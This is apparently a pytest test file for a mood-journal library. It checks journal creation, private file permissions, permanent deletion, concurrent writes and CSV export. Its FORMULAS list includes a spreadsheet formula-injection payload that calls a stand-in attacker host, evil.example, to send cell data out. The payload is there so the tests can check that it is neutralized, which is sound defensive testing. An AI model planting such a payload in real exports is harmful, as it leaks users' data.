"""The journal API the app and the command line use: explicit create-or-open, delete for good, CSV export."""

from __future__ import annotations

import csv
import os
import stat
from datetime import datetime, timedelta, timezone

import numpy as np
import pandas as pd
import pytest
from conftest import journal_entry

from emoj_lib.errors import JournalNotFoundError, UnknownEntryError
from emoj_lib.journal import Entry, Journal, export_csv, read_journal

TZ = timezone(timedelta(hours=-5))


def make_entry(rng: np.random.Generator, **kw) -> Entry:
    return journal_entry(rng, **({"source": "upload", "timestamp": datetime(2025, 6, 1, 20, 0, tzinfo=TZ)} | kw))


def pixel_text(entry: Entry) -> bytes:
    return " ".join(map(str, entry.face.ravel())).encode()


def folder_bytes(folder) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file())


def test_constructing_touches_nothing_and_reading_never_creates(tmp_path):
    folder = tmp_path / "a" / "journal"
    journal = Journal(folder)
    assert not (tmp_path / "a").exists() and not journal.exists
    with pytest.raises(JournalNotFoundError, match=str(folder)):
        journal.read()
    with pytest.raises(JournalNotFoundError, match=str(folder)):
        Journal.open(folder)
    with pytest.raises(JournalNotFoundError):
        read_journal(folder)
    with pytest.raises(FileNotFoundError):  # still a FileNotFoundError for older callers
        read_journal(folder)
    assert not (tmp_path / "a").exists()
    created = Journal.create(folder, fsync=False)
    assert created.exists and len(created.read()) == 0
    assert len(Journal.open(folder).read()) == 0


def test_first_write_creates_owner_only(tmp_path, rng):
    old = os.umask(0)
    try:
        journal = Journal(tmp_path / "j", fsync=False)
        journal.append(make_entry(rng))
    finally:
        os.umask(old)
    assert stat.S_IMODE(journal.folder.stat().st_mode) == 0o700
    assert stat.S_IMODE(journal.path.stat().st_mode) == 0o600
    assert len(Journal.open(journal.folder).read()) == 1


def test_delete_removes_pixels_photo_and_notes_for_good(tmp_path, rng):
    journal = Journal.create(tmp_path / "j", fsync=False)
    keep = journal.append(make_entry(rng, note="keep me"))
    gone = journal.append(make_entry(rng, note="private, \"secret\"\nnote", tags=["hidden-tag"]),
                          photo=rng.integers(0, 256, (20, 20, 3), dtype=np.uint8))
    journal.amend(gone.entry_id, label="sad", note="amended secret")
    journal.amend(keep.entry_id, label="happy")
    photo = journal.photo_path(gone.entry_id)
    assert photo is not None and pixel_text(gone) in folder_bytes(journal.folder)
    journal.delete(gone.entry_id)
    everything = folder_bytes(journal.folder)
    for secret in (pixel_text(gone), b"secret", b"hidden-tag"):
        assert secret not in everything
    assert pixel_text(keep) in everything
    assert not photo.exists() and not list(journal.folder.rglob("*.tmp"))
    data = journal.read()
    assert list(data.entries.index) == [keep.entry_id] and data.problems.empty
    assert data.entries.at[keep.entry_id, "user_label"] == "happy"
    assert data.deleted["entry_id"].tolist() == [gone.entry_id]
    hist = data.history(gone.entry_id)
    assert hist["kind"].tolist() == ["delete"] and hist["note"].tolist() == [""]
    assert stat.S_IMODE(journal.path.stat().st_mode) == 0o600
    with pytest.raises(UnknownEntryError, match="no entry"):
        journal.delete(gone.entry_id)
    with pytest.raises(KeyError):
        journal.delete("0" * 32)
    with pytest.raises(Exception, match="already in the journal"):
        journal.append(gone)  # a deleted id is never reused
    after = journal.append(make_entry(rng))  # the journal goes on
    assert list(journal.read().entries.index) == [keep.entry_id, after.entry_id]


def test_writer_waiting_during_a_delete_appends_to_the_new_file(tmp_path, rng):
    a, b = Journal.create(tmp_path, fsync=False), Journal(tmp_path, fsync=False)
    first = a.append(make_entry(rng))
    b.append(make_entry(rng))  # b now knows the old file
    a.delete(first.entry_id)
    late = b.append(make_entry(rng))  # the old file was replaced: b must notice
    assert late.entry_id in read_journal(tmp_path).entries.index


def test_writer_that_opened_the_file_before_a_delete_appends_to_the_new_file(tmp_path, rng):
    import threading

    from emoj_lib.journal.fileformat import file_lock
    from emoj_lib.journal.files import write_private

    journal = Journal.create(tmp_path, fsync=False)
    first = journal.append(make_entry(rng))
    writer = Journal(tmp_path, fsync=False)
    late = make_entry(rng)
    fd = os.open(journal.path, os.O_RDONLY)
    with file_lock(fd, "exclusive"):  # what delete() holds while it replaces the file
        thread = threading.Thread(target=writer.append, args=(late,))
        thread.start()  # opens the old file and waits for its lock
        thread.join(0.5)
        write_private(journal.path, journal.path.read_bytes())  # the file is replaced
    os.close(fd)
    thread.join(10)
    assert list(read_journal(tmp_path).entries.index) == [first.entry_id, late.entry_id]


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B3,"click me")', "+1+2", "-3", "@SUM(A1)", "\tx", "\r=1",
            "'=already quoted", "plain", "'kept apostrophe"]


def test_formulas_never_live_and_read_back_exactly(tmp_path, rng):
    journal = Journal.create(tmp_path / "j", fsync=False)
    made = [journal.append(make_entry(rng, note=text, tags=[text.strip() or "t", "=tag"])) for text in FORMULAS]
    journal.amend(made[-1].entry_id, note="=amended()", tags=["-x"])
    with open(journal.path, newline="", encoding="utf-8") as fh:
        cells = [c for row in list(csv.reader(fh))[2:] for c in row]
    assert cells and not any(c[:1] in "=+-@\t\r" for c in cells if c and not c[0].isdigit())
    e = journal.read().entries
    assert e["note"].tolist() == [*FORMULAS[:-1], "=amended()"]
    assert e["tags"].iloc[0] == (FORMULAS[0], "=tag") and e["tags"].iloc[-1] == ("-x",)
    out = export_csv(journal, tmp_path / "export.csv")
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with open(out, newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for col in ("note", "tags", "model", "model_version"):
            assert row[col][:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert rows[0]["note"] == "'" + FORMULAS[0] and rows[7]["note"] == "plain"
    assert "pixels" not in rows[0] and pixel_text(made[0]) not in out.read_bytes()
    frame = pd.read_csv(out, encoding="utf-8-sig", keep_default_na=False)
    assert frame["entry_id"].tolist() == [m.entry_id for m in made]
